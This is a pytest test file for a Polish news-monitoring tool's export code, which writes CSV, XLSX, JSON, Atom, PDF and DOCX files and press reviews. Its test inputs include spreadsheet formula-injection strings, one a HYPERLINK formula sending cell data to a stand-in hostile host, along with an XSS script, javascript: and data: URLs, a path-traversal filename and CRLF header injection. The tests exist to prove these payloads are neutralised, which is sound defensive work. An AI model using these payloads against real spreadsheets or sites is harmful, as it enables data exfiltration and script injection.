"""Files to take away hold what was found, whatever papers write, and are fit to be handed on."""

import csv
import io
import json
import re
from collections.abc import Iterable
from dataclasses import replace
from datetime import UTC, date, datetime, timedelta
from typing import Any
from zipfile import ZipFile

import pytest
from lxml import etree
from sqlalchemy import delete
from sqlmodel import col, select

from monitor import queries
from monitor.db import Database
from monitor.errors import NotFound
from monitor.exports import (
    Format,
    Found,
    Wish,
    atom,
    docx,
    export,
    names,
    passage,
    pdf,
    plain,
    review,
    words,
    xlsx,
)
from monitor.exports import csv as commas
from monitor.exports import json as objects
from monitor.queries import EVERY_HIT, ArticleRow, HitFilter, HitRow, Place
from monitor.tables import Article, Hit, Watchlist
from tests.test_queries import archive

NOW = datetime(2026, 4, 16, 10, 0, tzinfo=UTC)
SNIPPET = "Rzecznik mówił w Kazachstanie o ropie."
WISH = Wish(NOW + timedelta(microseconds=123_456), public_url="https://nasluch.example")


def found(number: int = 1, *, title: str = "Ropa z Kazachstanu", copies: int = 0, also: tuple[str, ...] = (),
          watchlist: str = "Wschód", snippet: str = SNIPPET, highlights: tuple[tuple[int, int], ...] = ((17, 29),),
          **article: Any) -> Found:  # fmt: skip
    """A hit, as the archive tells of it."""
    row = ArticleRow(
        number, "Gazeta", "https://gazeta.example/rss", f"https://gazeta.example/{number}", "", title, "", None,
        NOW - timedelta(hours=number), NOW, False, None,
    )  # fmt: skip
    place: Place = {"keyword": "Kazachstan", "form": "Kazachstanie", "field": "body", "start": 17, "end": 29}
    hit = HitRow(number, watchlist, 1, replace(row, **article), (place,), snippet, highlights, NOW)
    return Found(hit, copies, also)


def joined(chunks: Iterable[bytes]) -> bytes:
    return b"".join(chunks)


def lines(*hits: Found, wish: Wish = WISH) -> list[dict[str, str]]:
    """What a program reads out of the CSV."""
    return list(csv.DictReader(io.StringIO(joined(commas.written(hits, wish)).decode(), newline="")))


def cells(*hits: Found, wish: Wish = WISH, rows: int = xlsx.ROWS) -> dict[str, etree._Element]:
    """The cells of a workbook by sheet and place."""
    with ZipFile(io.BytesIO(joined(xlsx.written(hits, wish, rows=rows)))) as book:
        sheets = [name for name in book.namelist() if name.startswith("xl/worksheets/sheet")]
        roots = {name.rpartition("sheet")[2][0]: etree.fromstring(book.read(name)) for name in sheets}
    return {f"{sheet}!{cell.get('r')}": cell for sheet, root in roots.items() for cell in root.iter("{*}c")}


def told(cell: etree._Element) -> str:
    return "".join(text.text or "" for text in cell.iter("{*}t"))


def entries(*hits: Found) -> list[etree._Element]:
    return list(etree.fromstring(joined(atom.written(hits, WISH))).iter("{*}entry"))


def document(made: review.Review) -> str:
    with ZipFile(io.BytesIO(docx.written(made))) as parts:
        return parts.read("word/document.xml").decode()


# ---- a table


def test_a_line_tells_who_found_what_where_and_when_in_the_reader_s_zone() -> None:
    (line,) = lines(found(copies=2, story=9))
    assert line == {
        "id": "1",
        "watchlist": "Wschód",
        "keywords": "Kazachstan",
        "matched": "Kazachstanie",
        "passage": SNIPPET,
        "title": "Ropa z Kazachstanu",
        "feed": "Gazeta",
        "published_at": "2026-04-16T11:00:00+02:00",
        "found_at": "2026-04-16T12:00:00+02:00",
        "url": "https://gazeta.example/1",
        "story": "9",
        "copies": "2",
        "lead_only": "no",
    }
    assert lines(found(), wish=replace(WISH, zone="Asia/Almaty"))[0]["found_at"] == "2026-04-16T15:00:00+05:00"
    assert lines(found(published_at=None))[0]["published_at"] == ""


def test_a_workbook_has_headings_moments_numbers_and_links() -> None:
    told_cells = cells(found(copies=2, story=9))
    assert told(told_cells["1!B2"]) == "Wschód"
    assert told(told_cells["1!H1"]) == "Opublikowano (Europe/Warsaw)"
    assert told_cells["1!H2"].findtext("{*}v") == f"{46128 + 11 / 24:.16g}"
    assert told_cells["1!L2"].findtext("{*}v") == "2"
    assert told(told_cells["1!J2"]) == "https://gazeta.example/1"
    english = cells(found(), wish=replace(WISH, language="en"))
    assert told(english["1!I1"]) == "Found (Europe/Warsaw)"


def test_what_one_sheet_cannot_hold_goes_to_the_next() -> None:
    told_cells = cells(*map(found, range(1, 6)), rows=2)
    numbers = [cell.findtext("{*}v") for place, cell in told_cells.items() if re.match(r"\d!A(?!1$)", place)]
    assert numbers == ["1", "2", "3", "4", "5"]
    assert {place[0] for place in told_cells} == {"1", "2", "3"}
    with ZipFile(io.BytesIO(joined(xlsx.written(map(found, range(1, 6)), WISH, rows=2)))) as book:
        named = etree.fromstring(book.read("xl/workbook.xml")).iter("{*}sheet")
        assert [sheet.get("name") for sheet in named] == ["Trafienia", "Trafienia 2", "Trafienia 3"]


def test_json_tells_what_the_api_tells_and_the_copies() -> None:
    (told_of,) = json.loads(joined(objects.written([found(copies=3)])))
    assert told_of["copies"] == 3
    assert told_of["article"]["published_at"] == "2026-04-16T09:00:00Z"
    assert told_of["matched"][0]["form"] == "Kazachstanie"
    assert told_of["highlights"] == [[17, 29]]
    assert json.loads(joined(objects.written([]))) == []


def test_a_feed_of_hits_names_each_for_good() -> None:
    first, second = entries(found(1), found(2))
    assert first.findtext("{*}id") != second.findtext("{*}id")
    assert entries(found(1))[0].findtext("{*}id") == first.findtext("{*}id")
    assert first.findtext("{*}title") == "Ropa z Kazachstanu"
    assert first.findtext("{*}content") == SNIPPET
    assert first.find("{*}link").attrib == {"rel": "alternate", "href": "https://gazeta.example/1"}  # type: ignore[union-attr]
    assert [one.get("term") for one in first.iter("{*}category")] == ["Wschód", "Kazachstan"]
    assert first.findtext("{*}updated") == "2026-04-16T10:00:00Z"


@pytest.mark.parametrize("format", [Format.CSV, Format.XLSX, Format.ATOM])
def test_no_hits_are_a_file_all_the_same(format: Format) -> None:
    written = {Format.CSV: commas.written, Format.XLSX: xlsx.written, Format.ATOM: atom.written}[format]
    assert joined(written([], WISH))


def test_the_same_hits_are_the_same_bytes() -> None:
    hits = [found(number, copies=number % 2) for number in range(1, 20)]
    for written in (commas.written, xlsx.written, atom.written):
        assert joined(written(hits, WISH)) == joined(written(hits, WISH))
    for printed in (pdf.written, docx.written):
        assert printed(review.review(hits, WISH)) == printed(review.review(hits, WISH))


# ---- out of the archive


def test_an_export_holds_every_hit_that_is_meant_in_order_with_its_copies(database: Database) -> None:
    with database.write() as session:
        archive(session)
        for article in session.exec(select(Article).where(col(Article.id) <= 12)):
            article.story_id = 1
    with database.read() as session:
        listed = queries.hits(session, limit=1000)
        of_one = queries.hits(session, HitFilter(watchlist=2), limit=1000)
    made = export(database, EVERY_HIT, Format.JSON, WISH)
    told_of = json.loads(joined(made.chunks))
    assert [one["id"] for one in told_of] == [row.id for row in listed]
    assert made.hits == len(listed)
    assert {one["copies"] for one in told_of} == {0, 11}
    narrow = export(database, HitFilter(watchlist=2), Format.CSV, WISH, limit=3)
    assert [line["id"] for line in csv.DictReader(io.StringIO(joined(narrow.chunks).decode()))] == [
        str(row.id) for row in of_one[:3]
    ]
    with pytest.raises(NotFound):
        export(database, HitFilter(watchlist=99), Format.CSV, WISH)


def test_a_hit_that_goes_while_an_export_is_written_is_left_out(database: Database) -> None:
    with database.write() as session:
        archive(session)
    made = export(database, EVERY_HIT, Format.JSON, WISH)
    with database.write() as session:
        session.execute(delete(Hit).where(col(Hit.id) == 1))
    assert len(json.loads(joined(made.chunks))) == made.hits - 1


def test_a_press_review_that_nobody_would_read_is_refused(database: Database) -> None:
    with database.write() as session:
        archive(session)
        for number in range(60):
            session.add(Watchlist(name=f"Temat {number}", query="x", created_at=NOW, updated_at=NOW))
        session.flush()
        pairs = [(watchlist, article) for watchlist in range(4, 64) for article in range(1, 18)]
        for watchlist, article in pairs:
            session.add(Hit(watchlist_id=watchlist, article_id=article, occurrences=[], highlights=[], found_at=NOW))
    with pytest.raises(ValueError, match="at most 1000 hits, and these are"):
        export(database, EVERY_HIT, Format.PDF, WISH)


# ---- what papers write


FORMULAS = [
    "=1+1",
    "+48 22 000 00 00",
    "-5% w dół",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\u00a0=1+1",
    '"=1+1"',
    "'=1+1",
    "\u200b=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "„=1+1”",
    '=HYPERLINK("https://zly.example/?"&A1)',
]


@pytest.mark.parametrize("title", FORMULAS)
def test_no_cell_is_a_formula_and_its_text_is_kept(title: str) -> None:
    kept = plain.cell(title)
    assert kept == title.strip("\t\r \u00a0")
    cell = lines(found(title=title, feed=title, watchlist=title))[0]
    assert {cell["title"], cell["feed"], cell["watchlist"]} == {f"'{kept}"}
    written = cells(found(title=title))["1!F2"]
    assert written.get("t") == "inlineStr"
    assert written.find("{*}f") is None
    assert told(written) == kept
    assert written.get("s") != cells(found())["1!F2"].get("s"), "the style with a quote prefix"


@pytest.mark.parametrize(
    ("title", "kept"),
    [
        ("Ropa;=1+1", "Ropa;'=1+1"),
        ("Ropa; =1+1;@x;gaz", "Ropa;' =1+1;'@x;gaz"),
        ('Ropa;"=1+1"', 'Ropa;\'"=1+1"'),
        ("=1;=2", "'=1;'=2"),
        ("=;" * 20_000, None),
    ],
)
def test_no_part_of_a_cell_is_a_formula_where_a_semicolon_parts_cells(title: str, kept: str | None) -> None:
    cell = lines(found(title=title))[0]["title"]
    assert kept is None or cell == kept
    assert len(cell) <= 32_767
    assert not any(re.match(r"[\s\"]*[=+@-]", part) for part in cell.split(";"))


@pytest.mark.parametrize("title", ["Ropa – i co dalej?", "5 = 5", "Kto, jeśli nie on?", "„Nie” dla ropy", ""])
def test_other_cells_are_left_as_they_are(title: str) -> None:
    assert lines(found(title=title))[0]["title"] == title


EVILS = [
    pytest.param("Ropa\x00i\x0bgaz\x1b[31m", id="control characters"),
    pytest.param("Ropa\u2028i\u2029gaz\x85ziemny", id="ends of lines"),
    pytest.param("Ropa\ud83di gaz\udc00", id="halves of letters"),
    pytest.param("Ropa \u202egaz\u202c \u2066i\u2069 \u200furan", id="turned around"),
    pytest.param("Ropa\ufffe\uffff\U0001fffe i gaz\ufdd0", id="no characters at all"),
    pytest.param("<script>alert(1)</script>]]>&amp;<!--", id="a script"),
    pytest.param('_x0041_ #link[a] *b* $x$ \\u{41} #eval("1") {{7*7}} ${7*7} @ref <label>', id="markup"),
    pytest.param("x" * 1_000_000, id="a megabyte"),
    pytest.param("Ropa i gaz " * 100_000, id="a megabyte of words"),
    pytest.param("😀" * 40_000, id="pairs of halves"),
    pytest.param("Ұлттық банк, 石油, نفط, ไม่ 🛢️", id="other letters"),
    pytest.param("", id="nothing"),
    pytest.param("\n\n", id="lines"),
]


@pytest.mark.parametrize("text", EVILS)
def test_no_text_breaks_a_file(text: str) -> None:
    hit = found(title=text, feed=text, watchlist=text, snippet=f"{text[:4000]} Kazachstan", highlights=((0, 3),))
    wish = replace(WISH, title=text[:200], reader=text[:200], intro=text[:4000])

    whole = joined(commas.written([hit, hit], wish)).decode()
    assert len(list(csv.reader(io.StringIO(whole, newline="")))) == len(whole.splitlines()) == 3
    assert all(len(cell.encode("utf-16-le")) // 2 <= 32_767 for cell in lines(hit)[0].values())

    whole = joined(objects.written([hit])).decode()
    assert len(whole.splitlines()) == 3
    assert json.loads(whole)[0]["article"]["title"] == plain.whole(text)

    assert told(cells(hit, wish=wish)["1!F2"]) == plain.cell(text).replace("_x0041_", "_x005F_x0041_")

    (entry,) = entries(hit)
    assert entry.findtext("{*}title") == (plain.title(text) or "—")

    made = review.review([hit], wish)
    assert pdf.written(made).startswith(b"%PDF-1.7")
    shown = "".join(map(str, etree.fromstring(document(made).encode()).itertext()))
    assert plain.bound(plain.title(text)) in shown


@pytest.mark.parametrize(
    ("addresses", "link"),
    [
        (("https://gazeta.example/a?b=1#c",), "https://gazeta.example/a?b=1#c"),
        (("HTTP://gazeta.example",), "HTTP://gazeta.example"),
        (("urn:x", "https://gazeta.example/"), "https://gazeta.example/"),
        (("javascript:alert(1)",), ""),
        (("JaVaScRiPt:alert(1)//https://gazeta.example",), ""),
        (("data:text/html,<script>",), ""),
        ((" https://gazeta.example/",), ""),
        (("https://gazeta.example/\u202egnp",), ""),
        (("https://gazeta.example/\r\nX: y",), ""),
        (('https://gazeta.example/"onclick="x',), ""),
        (("https://user@gazeta.example/",), ""),
        (("file:///etc/passwd",), ""),
        (("internal:Sheet1!A1",), ""),
        (("https://gazeta.example/" + "x" * 3000,), ""),
        (("",), ""),
    ],
)
def test_only_addresses_of_the_web_are_links(addresses: tuple[str, ...], link: str) -> None:
    assert plain.link(*addresses) == link


def test_an_address_that_is_no_link_is_none_anywhere() -> None:
    hit = found(url="javascript:alert(1)", link="data:text/html,x")
    made = review.review([hit], WISH)
    assert lines(hit)[0]["url"] == ""
    assert "1!J2" not in cells(hit) or told(cells(hit)["1!J2"]) == ""
    assert entries(hit)[0].find("{*}link") is None
    assert b"javascript" not in pdf.written(made)
    assert "w:hyperlink r:id" not in document(made)
    with ZipFile(io.BytesIO(docx.written(made))) as parts:
        assert b"javascript" not in parts.read("word/_rels/document.xml.rels")


# ---- the passage


@pytest.mark.parametrize(
    ("most", "quoted"),
    [
        (1000, "Wczoraj rano w Warszawie rzecznik mówił o ropie z Kazachstanu i o gazie, którego nie ma."),
        (70, "… rzecznik mówił o ropie z [Kazachstanu] i o gazie, którego nie ma."),
        (50, "… o ropie z [Kazachstanu] i o gazie, którego nie …"),
        (30, "… ropie z [Kazachstanu] i o …"),
        (20, "… z [Kazachstanu] i …"),
        (5, "… [Kazachstanu] …"),
    ],
)
def test_a_passage_is_cut_between_words_and_shows_its_form(most: int, quoted: str) -> None:
    text = "Wczoraj rano w Warszawie rzecznik mówił o ropie z Kazachstanu i o gazie, którego nie ma."
    start = text.index("Kazachstanu")
    hit = found(snippet=text, highlights=((start, start + 11),)).hit
    pieces = passage.quoted(hit, most)
    assert "".join(f"[{piece.text}]" if piece.found else piece.text for piece in pieces) == (
        quoted if most < 1000 else quoted.replace("Kazachstanu", "[Kazachstanu]")
    )
    if most >= 20:
        assert len(passage.words(hit, most)) <= most


def test_a_passage_goes_to_the_end_where_the_form_is_last() -> None:
    text = "słowo " * 100 + "w Kazachstanie"
    hit = found(snippet=text, highlights=((len(text) - 12, len(text)),)).hit
    assert passage.words(hit, 100).endswith("słowo w Kazachstanie")
    assert len(passage.words(hit, 100)) <= 100


@pytest.mark.parametrize("places", [((900, 905),), ((5, 2),), ((-3, 4),), ((0, 4), (2, 8)), ()])
def test_places_that_are_none_leave_the_words_alone(places: tuple[tuple[int, int], ...]) -> None:
    assert passage.words(found(highlights=places).hit, 240) == SNIPPET


# ---- the press review


def test_a_review_has_a_chapter_a_watchlist_and_an_entry_a_story() -> None:
    hits = [
        found(1, watchlist="Żegluga", story=1),
        found(2, watchlist="Azja", story=2, feed="Kurier", copies=4, also=("Gazeta", "Radio")),
        found(3, watchlist="Azja", story=2, feed="Gazeta", copies=4, published_at=NOW),
        found(4, watchlist="Azja", story=None, lead_only=True),
    ]
    made = review.review(hits, replace(WISH, reader="minister w kancelarii", intro="Pierwsze.\n\nDrugie."))
    assert [(chapter.name, len(chapter.entries)) for chapter in made.chapters] == [("Azja", 2), ("Żegluga", 1)]
    story, alone = made.chapters[0].entries
    assert story.told == "Kurier · 16\u00a0kwietnia 2026, 10:00"
    assert story.also == "Także: Gazeta, Radio (+2)"
    assert alone.told.endswith("znane tylko tytuł i zajawka")
    assert alone.also == ""
    assert [piece.text for piece in story.quote if piece.found] == ["Kazachstanie"]
    assert "".join(piece.text for piece in story.quote) == "„Rzecznik mówił w\u00a0Kazachstanie o\u00a0ropie.”"
    assert made.facts == (("Dla:", "minister w\u00a0kancelarii"), ("Okres:", "16\u00a0kwietnia 2026"))
    assert made.intro == ("Pierwsze.", "Drugie.")
    assert made.closing[0] == "Wiadomości: 3, tematy: 2."


def test_a_review_is_english_for_who_reads_english() -> None:
    wish = replace(WISH, language="en", since=NOW - timedelta(days=30), until=NOW)
    made = review.review([found(copies=1, also=("Kurier",))], wish)
    assert made.title == "Press review"
    assert made.facts == (("Period:", "17\u00a0March – 16\u00a0April 2026"),)
    assert made.chapters[0].entries[0].also == "Also: Kurier"
    assert "".join(piece.text for piece in made.chapters[0].entries[0].quote) == f"“{SNIPPET}”"
    assert 'w:val="en-GB"' in ZipFile(io.BytesIO(docx.written(made))).read("word/styles.xml").decode()
    assert b"/Lang(en)" in pdf.written(made)


def test_a_review_of_nothing_says_so() -> None:
    made = review.review([], WISH)
    assert made.closing[0] == "W tym okresie nic nie znaleziono."
    assert pdf.written(made)
    assert "W tym okresie nic nie znaleziono." in document(made)


@pytest.mark.parametrize(
    ("first", "last", "said"),
    [
        (date(2026, 4, 16), date(2026, 4, 16), "16\u00a0kwietnia 2026"),
        (date(2026, 4, 1), date(2026, 4, 16), "1–16\u00a0kwietnia 2026"),
        (date(2026, 3, 28), date(2026, 4, 16), "28\u00a0marca – 16\u00a0kwietnia 2026"),
        (date(2025, 12, 28), date(2026, 1, 2), "28\u00a0grudnia 2025 – 2\u00a0stycznia 2026"),
    ],
)
def test_a_period_says_once_what_both_ends_have(first: date, last: date, said: str) -> None:
    assert words.period(first, last, words.PL) == said


@pytest.mark.parametrize(
    ("text", "bound"),
    [
        ("Ropa w Gdańsku i z Kazachstanu", "Ropa w~Gdańsku i~z~Kazachstanu"),
        ("O tym (a nie „o tym”)", "O~tym (a~nie „o~tym”)"),
        ("grupa e i f", "grupa e i~f"),
        ("lato w", "lato w"),
        ("mała", "mała"),
    ],
)
def test_a_preposition_of_one_letter_stays_with_its_word(text: str, bound: str) -> None:
    assert plain.bound(text) == bound.replace("~", "\u00a0")


def test_a_pdf_has_its_letters_its_language_its_outline_and_its_structure() -> None:
    made = pdf.written(review.review([found(title="Zażółć gęślą jaźń")], WISH))
    assert b"/Lang(pl)" in made
    assert b"/MarkInfo" in made
    assert b"/StructTreeRoot" in made
    assert b"/Outlines" in made
    assert made.count(b"/FontFile3") == made.count(b"/FontDescriptor ") == 2
    assert b"/URI(https://gazeta.example/1)" in made


def test_a_docx_has_headings_links_and_a_table_of_contents_that_is_full() -> None:
    made = review.review([found(1), found(2, title="Gaz z Astany")], WISH)
    root = etree.fromstring(document(made).encode())
    name = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"
    styles: dict[str, list[str]] = {}
    for paragraph in root.iter(f"{name}p"):
        style = paragraph.find(f"{name}pPr/{name}pStyle")
        styles.setdefault(str(style.get(f"{name}val")) if style is not None else "", []).append(
            "".join(text.text or "" for text in paragraph.iter(f"{name}t"))
        )
    assert styles["Heading1"] == ["Wschód"]
    assert styles["Heading2"] == ["Ropa z\u00a0Kazachstanu", "Gaz z\u00a0Astany"]
    assert styles["toc1"] + styles["toc2"] == styles["Heading1"] + styles["Heading2"]
    anchors = [link.get(f"{name}anchor") for link in root.iter(f"{name}hyperlink") if link.get(f"{name}anchor")]
    assert anchors == [mark.get(f"{name}name") for mark in root.iter(f"{name}bookmarkStart")]
    kinds = [mark.get(f"{name}fldCharType") for mark in root.iter(f"{name}fldChar")]
    assert kinds == ["begin", "separate", "end"]


# ---- names


@pytest.mark.parametrize(
    ("title", "name"),
    [
        ("", "Prasówka 2026-04-16.pdf"),
        ("Azja Środkowa: gaz", "Azja Środkowa gaz 2026-04-16.pdf"),
        ("../../etc/passwd", "etc passwd 2026-04-16.pdf"),
        ("C:\\temp\\x", "C temp x 2026-04-16.pdf"),
        ('a"; filename=b\r\nX: y', "a filename b X y 2026-04-16.pdf"),
        ("...", "Prasówka 2026-04-16.pdf"),
        ("x" * 500, f"{'x' * 80} 2026-04-16.pdf"),
        ("gpj\u202efdp.exe", "gpjfdp.exe 2026-04-16.pdf"),
    ],
)
def test_a_file_s_name_is_no_path(title: str, name: str) -> None:
    assert names.of(Format.PDF, replace(WISH, title=title)) == name


def test_a_browser_is_told_the_name_twice() -> None:
    assert names.disposition("Prasówka 2026-04-16.pdf") == (
        "attachment; filename=\"Prasowka 2026-04-16.pdf\"; filename*=UTF-8''Pras%C3%B3wka%202026-04-16.pdf"
    )
    assert names.disposition('ҰБ ".pdf').startswith('attachment; filename="__ _.pdf"')
